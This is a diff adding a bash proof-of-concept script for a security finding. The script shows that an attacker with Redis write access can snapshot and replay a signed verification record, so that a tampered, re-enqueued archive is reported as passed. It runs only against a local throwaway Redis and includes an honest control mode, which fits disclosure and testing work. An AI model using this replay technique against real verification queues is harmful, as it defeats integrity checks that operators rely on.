@@ -1,0 +1,50 @@
+#!/usr/bin/env bash
+# Finding Q1: a Redis writer without --result-key rolls an archive back to an earlier enqueue's signed record
+# and entry: `queue wait --result-key` reports TOTAL-PASSED (exit 0) for an archive that was since tampered
+# with and enqueued again, and the number of archives read equals what `queue add` enqueued.
+# usage: scripts/attack34/queue-rollback.sh [honest]   (honest: no attacker step, the control)
+set -u
+cd "$(dirname "$0")/../.."
+ROOT=$PWD
+PORT=${PORT:-$((20000 + RANDOM % 20000))}
+W=$(mktemp -d /tmp/attack34-q.XXXXXX)
+URL=redis://127.0.0.1:$PORT
+Q=(--redis "$URL" --queue rb)
+CLI=(npx tsx "$ROOT/cli/main.ts")
+redis-server --port "$PORT" --bind 127.0.0.1 --save "" --appendonly no --daemonize yes --pidfile "$W/redis.pid" --dir "$W" >/dev/null
+sleep 0.5
+cleanup() { [ -n "${WPID:-}" ] && kill -9 -- "-$WPID" 2>/dev/null; wait 2>/dev/null; kill "$(cat "$W/redis.pid")" 2>/dev/null; }
+trap cleanup EXIT
+openssl rand -out "$W/result.key" 32
+mkdir -p "$W/arch/a1"
+cp samples/valid/workflowtoken.json "$W/arch/a1/"
+cp -r samples/valid/originals "$W/arch/a1/originals"
+K=(--result-key "$W/result.key")
+T=(--trust samples/trust)
+work() { # run one worker until the queue is empty
+  setsid "${CLI[@]}" worker "${Q[@]}" "${T[@]}" "${K[@]}" -c 1 2>"$W/worker.log" & WPID=$!
+}
+echo "== 1. genuine archive enqueued and verified"
+"${CLI[@]}" queue add "$W/arch" "${Q[@]}" "${T[@]}" "${K[@]}"
+work
+sleep 1
+until [ "$(redis-cli -p "$PORT" xlen bull:rb:sealcheck:results)" -ge 1 ]; do sleep 0.5; done
+echo "== 2. attacker (read access) snapshots the signed record and entry"
+node scripts/attack34/redis-writer.mjs "$URL" bull:rb snapshot "$W/snap.json"
+echo "== 3. operator reads with --trim"
+"${CLI[@]}" queue wait "${Q[@]}" "${K[@]}" --trim --json | grep -E '"(passed|failed|total|archives)"' ; echo "exit $?"
+kill -9 -- "-$WPID"; wait "$WPID" 2>/dev/null; WPID=
+echo "== 4. an original is tampered with; the operator enqueues the archive again"
+cp samples/tampered/original-changed/originals/* "$W/arch/a1/originals/"
+"${CLI[@]}" queue add "$W/arch" "${Q[@]}" "${T[@]}" "${K[@]}"
+if [ "${1:-}" != honest ]; then
+  echo "== 5. attacker (no result key) restores the old record and replays the old entry"
+  node scripts/attack34/redis-writer.mjs "$URL" bull:rb restore "$W/snap.json"
+fi
+work
+echo "== 6. operator waits, with the result key"
+"${CLI[@]}" queue wait "${Q[@]}" "${K[@]}" --trim --out "$W/r.jsonl"; rc=$?
+echo "queue wait exit code: $rc"
+grep -o '"indication":"[A-Z-]*"' "$W/r.jsonl"
+echo "direct verify of the archive now:"
+"${CLI[@]}" verify "$W/arch/a1/workflowtoken.json" "$W/arch/a1/originals" "${T[@]}" >/dev/null; echo "verify exit code: $?"
